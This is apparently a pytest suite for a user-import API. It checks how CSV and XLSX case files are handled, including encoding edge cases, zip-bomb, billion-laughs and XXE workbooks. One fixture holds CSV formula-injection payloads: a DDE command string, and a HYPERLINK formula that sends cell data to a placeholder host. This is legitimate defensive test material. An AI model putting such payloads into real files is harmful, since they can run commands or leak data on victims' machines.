"""Every real-world case file gives its documented outcome through the real endpoint."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.conftest import CASES_DIR
from tests.imports.helpers import (
    all_errors,
    error_fields,
    import_file,
    upload_bytes,
    users_table,
    wait_for_job,
)
from tests.support import TenantCredentials

ANNA = ("anna.verdi@example.com", (None, "Anna", "Verdi", True, "it", "IT"))
SOFIA_NET = ("sofia.ricci@example.net", (None, "Sofia", "Ricci", True, "it", "IT"))

# file name -> (status, users {email: (cid, first, last, enabled, language, country)},
#               errors {row: {fields}})
CASES: dict[str, tuple[str, dict[str, tuple[Any, ...]], dict[int, set[str]]]] = {
    "C01-utf8-bom-crlf.csv": (
        "completed",
        {
            "nicolo.ferri@example.com": (None, "Nicolò", "Ferri", True, "it", "IT"),
            "zoe.martin@example.org": (None, "Zoë", "Martin", False, "fr", "FR"),
        },
        {},
    ),
    "C02-cp1252-accented-names.csv": (
        "completed",
        {
            "jose.alvarez@example.com": (None, "José", "Álvarez", True, "es", "ES"),
            "francois.dupre@example.org": (None, "François", "Dupré", True, "fr", "FR"),
            "noelle.darcy@example.net": (
                None,
                "Noëlle",
                "D\u2019Arcy",
                True,
                "en",
                "IE",
            ),
            "chloe.oeuvray@example.org": (None, "Chloé", "Œuvray", True, "fr", "CH"),
            "bjorn.angstrom@example.com": (None, "Björn", "Ångström", True, "de", "DE"),
        },
        {},
    ),
    "C03a-comma-separated.csv": (
        "completed",
        {
            "anna.verdi@example.com": (None, "Anna", "Verdi", True, "it", "IT"),
            "luca.bianchi@example.org": (None, "Luca", "Bianchi", True, "it", "IT"),
            "sofia.ricci@example.net": (None, "Sofia", "Ricci", False, "it", "IT"),
        },
        {},
    ),
    "C03b-one-row-comma-separated.csv": (
        "completed_with_errors",
        {
            "anna.verdi@example.com": (None, "Anna", "Verdi", True, "it", "IT"),
            "sofia.ricci@example.net": (None, "Sofia", "Ricci", False, "it", "IT"),
        },
        {3: {"email", "first_name", "last_name"}},
    ),
    "C04-quoted-separator-newline-quotes.csv": (
        "completed_with_errors",
        {
            "anna.verdi@example.com": (
                None,
                "Anna",
                "Verdi; Bianchi",
                True,
                "it",
                "IT",
            ),
            "giulia.conti@example.com": (
                None,
                "Giulia\nMaria",
                "Conti",
                True,
                "it",
                "IT",
            ),
            "sofia.ricci@example.com": (
                None,
                'Sofia "Sofi"',
                "Ricci",
                True,
                "it",
                "IT",
            ),
        },
        {6: {"email"}},
    ),
    "C05-header-case-and-spaces.csv": (
        "completed",
        {
            "elena.rossi@example.com": ("E-01", "Elena", "Rossi", True, "it", "IT"),
            "paolo.neri@example.org": ("P-02", "Paolo", "Neri", False, "en", "GB"),
        },
        {},
    ),
    "C06a-trailing-empty-rows-and-columns.csv": (
        "completed",
        {
            "anna.verdi@example.com": (None, "Anna", "Verdi", True, "it", "IT"),
            "luca.bianchi@example.org": (None, "Luca", "Bianchi", True, "it", "IT"),
        },
        {},
    ),
    "C06b-trailing-formatted-empty-rows.xlsx": (
        "completed",
        {
            "anna.verdi@example.com": (None, "Anna", "Verdi", True, "it", "IT"),
            "luca.bianchi@example.org": (None, "Luca", "Bianchi", True, "it", "IT"),
        },
        {},
    ),
    "C07-duplicate-emails-in-file.xlsx": (
        "completed_with_errors",
        {
            "zoe.martin@example.com": (None, "Zoë", "Martin", True, "fr", "FR"),
            "luca.bianchi@example.org": (None, "Luca", "Bianchi", True, "it", "IT"),
        },
        {3: {"email"}, 5: {"email"}},
    ),
    "C09-email-whitespace.csv": (
        "completed_with_errors",
        {
            "anna.verdi@example.com": (None, "Anna", "Verdi", True, "it", "IT"),
            "paolo.neri@example.com": (None, "Paolo", "Neri", True, "it", "IT"),
            "marta.galli@example.org": (None, "Marta", "Galli", True, "it", "IT"),
            "elena.rossi@example.net": (None, "Elena", "Rossi", True, "it", "IT"),
            "sara.bruni@example.com": (None, "Sara", "Bruni", True, "it", "IT"),
        },
        {7: {"email"}, 8: {"email"}},
    ),
    "C12a-excel-boolean-cells.xlsx": (
        "completed_with_errors",
        {
            "zoe.martin@example.org": None,
            "jose.alvarez@example.com": None,
            "francois.dupre@example.org": None,
            "chloe.bernard@example.net": None,
            "bjorn.angstrom@example.org": None,
        },
        {6: {"enabled"}, 7: {"enabled"}},
    ),
    "C12b-excel-booleans-saved-as-csv.csv": (
        "completed_with_errors",
        {
            "zoe.martin@example.org": None,
            "jose.alvarez@example.com": None,
            "francois.dupre@example.org": None,
        },
        {5: {"enabled"}, 6: {"enabled"}},
    ),
    "C14-header-on-row-3.xlsx": (
        "failed",
        {},
        {1: {"email", "first_name", "last_name"}},
    ),
    "C15-inline-strings-no-sharedstrings.xlsx": (
        "completed",
        {
            "nicolo.ferri@example.com": (None, "Nicolò", "Ferri", True, "it", "IT"),
            "zoe.martin@example.org": (None, "Zoë", "Martin", False, "fr", "FR"),
        },
        {},
    ),
    "C17-date-cells-in-text-column.xlsx": (
        "completed_with_errors",
        {
            "chiara.moretti@example.com": (
                "C-100",
                "Chiara",
                "Moretti",
                True,
                "it",
                "IT",
            )
        },
        {3: {"cid"}, 4: {"cid"}},
    ),
    "C19-formula-injection-values.csv": (
        "completed",
        {
            "mario.esposito@example.com": (
                None,
                '=HYPERLINK("http://example.net/?q="&A1,"Clicca qui")',
                "Esposito",
                True,
                "it",
                "IT",
            ),
            "laura.greco@example.com": (
                None,
                "Laura",
                "=cmd|' /C calc'!A0",
                True,
                "it",
                "IT",
            ),
            "davide.lombardi@example.org": (
                None,
                "@SUM(1+1)",
                "+Lombardi",
                True,
                "it",
                "IT",
            ),
            "tina.bassi@example.net": ("-1+2", "Tina", "Bassi", True, "it", "IT"),
        },
        {},
    ),
    "C20-huge-cells.csv": (
        "completed_with_errors",
        {
            "anna.verdi@example.com": (None, "Anna", "Verdi", True, "it", "IT"),
            "sofia.ricci@example.net": (None, "Sofia", "Ricci", True, "it", "IT"),
        },
        {3: {"last_name"}, 4: {"first_name"}},
    ),
    "C21a-zip-bomb-512MiB-sheet.xlsx": ("failed", {}, {1: {"file"}}),
    "C22a-xml-billion-laughs.xlsx": ("failed", {}, {1: {"file"}}),
    "C22b-xml-external-entity.xlsx": ("failed", {}, {1: {"file"}}),
    "C23a-row-numbers.csv": (
        "completed_with_errors",
        dict([ANNA, SOFIA_NET]),
        {3: {"email"}, 5: {"language_id"}, 6: {"country_id"}, 9: {"last_name"}},
    ),
    "C23b-row-numbers.xlsx": (
        "completed_with_errors",
        {"anna.verdi@example.com": None, "sofia.ricci@example.net": None},
        {3: {"email"}, 5: {"language_id"}, 7: {"first_name"}},
    ),
}

ENABLED = {
    "C12a-excel-boolean-cells.xlsx": {
        "zoe.martin@example.org": True,
        "jose.alvarez@example.com": False,
        "francois.dupre@example.org": False,
        "chloe.bernard@example.net": False,
        "bjorn.angstrom@example.org": True,
    },
    "C12b-excel-booleans-saved-as-csv.csv": {
        "zoe.martin@example.org": True,
        "jose.alvarez@example.com": False,
        "francois.dupre@example.org": False,
    },
}


@pytest.mark.parametrize("file_name", sorted(CASES))
def test_case_file_outcome(
    api: httpx.Client, tenant: TenantCredentials, file_name: str
) -> None:
    status, users, errors = CASES[file_name]

    job = import_file(api, tenant, CASES_DIR / file_name)
    found_errors = error_fields(all_errors(api, tenant, job["uuid"]))
    found_users = users_table(api, tenant)

    assert job["status"] == status, job
    assert found_errors == errors
    assert set(found_users) == set(users)
    for email, expected in users.items():
        if expected is not None:
            assert found_users[email] == expected, email
    for email, enabled in ENABLED.get(file_name, {}).items():
        assert found_users[email][3] is enabled, email


def test_case_failed_job_has_message(
    api: httpx.Client, tenant: TenantCredentials
) -> None:
    job = import_file(api, tenant, CASES_DIR / "C14-header-on-row-3.xlsx")

    assert job["status"] == "failed"
    assert "email" in job["message"]
    assert job["finished_at"] is not None


def test_case_existing_user_other_case(
    api: httpx.Client, tenant: TenantCredentials
) -> None:
    before = b"email;cid;first_name;last_name;enabled;language_id;country_id\n" + (
        b"nicolo.ferri@example.com;N-001;Nicolo;Ferri;true;it;IT\n"
    )
    first = upload_bytes(api, tenant, before)
    wait_for_job(api, tenant, first.json()["data"]["uuid"])
    uuid_before = api.get("/api/v1/users", headers=tenant.headers).json()["data"][0][
        "uuid"
    ]

    job = import_file(api, tenant, CASES_DIR / "C08-existing-user-email-case.csv")
    users = users_table(api, tenant)
    exported = api.get("/api/v1/users", headers=tenant.headers).json()["data"]

    assert job["status"] == "completed"
    assert users == {
        "nicolo.ferri@example.com": ("N-001", "Nicolò", "Ferri", True, "it", "IT"),
        "elena.rossi@example.org": (None, "Elena", "Rossi", True, "it", "IT"),
    }
    assert exported[0]["uuid"] == uuid_before


def _workbook_with_sheet(sheet_xml: bytes) -> bytes:
    """Build a minimal XLSX whose only sheet is ``sheet_xml``, with inline strings."""
    parts = {
        "[Content_Types].xml": (
            b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            b'<Default Extension="xml" ContentType="application/xml"/>'
            b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            b"</Types>"
        ),
        "_rels/.rels": (
            b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            b"</Relationships>"
        ),
        "xl/workbook.xml": (
            b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            b'<sheets><sheet name="Users" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            b"</Relationships>"
        ),
        "xl/worksheets/sheet1.xml": sheet_xml,
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _inline_row(number: int, values: list[str]) -> bytes:
    cells = "".join(
        f'<c r="{chr(65 + index)}{number}" t="inlineStr"><is><t>{value}</t></is></c>'
        for index, value in enumerate(values)
    )
    return f'<row r="{number}">{cells}</row>'.encode()


def test_case_high_ratio_workbook_reads(
    api: httpx.Client, tenant: TenantCredentials
) -> None:
    # The sheet pads its rows with 200 KB of spaces, so it compresses a
    # hundredfold and more: the guard must be a size cap, not a ratio rule alone.
    rows = [
        _inline_row(1, ["email", "first_name", "last_name"]),
        _inline_row(2, ["anna.verdi@example.com", "Anna", "Verdi"]),
        _inline_row(3, ["luca.bianchi@example.org", "Luca", "Bianchi"]),
    ]
    sheet = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + b"".join(rows)
        + b" " * 205_000
        + b"</sheetData></worksheet>"
    )

    response = upload_bytes(api, tenant, _workbook_with_sheet(sheet), "C21b.xlsx")
    job = wait_for_job(api, tenant, response.json()["data"]["uuid"])

    assert job["status"] == "completed", job
    assert set(users_table(api, tenant)) == {
        "anna.verdi@example.com",
        "luca.bianchi@example.org",
    }


def test_case_entity_content_never_leaks(
    api: httpx.Client, tenant: TenantCredentials
) -> None:
    hostname = (
        Path("/etc/hostname").read_text().strip()
        if Path("/etc/hostname").exists()
        else ""
    )

    job = import_file(api, tenant, CASES_DIR / "C22b-xml-external-entity.xlsx")
    errors = all_errors(api, tenant, job["uuid"])

    assert job["status"] == "failed"
    if hostname:
        assert hostname not in str(job)
        assert hostname not in str(errors)
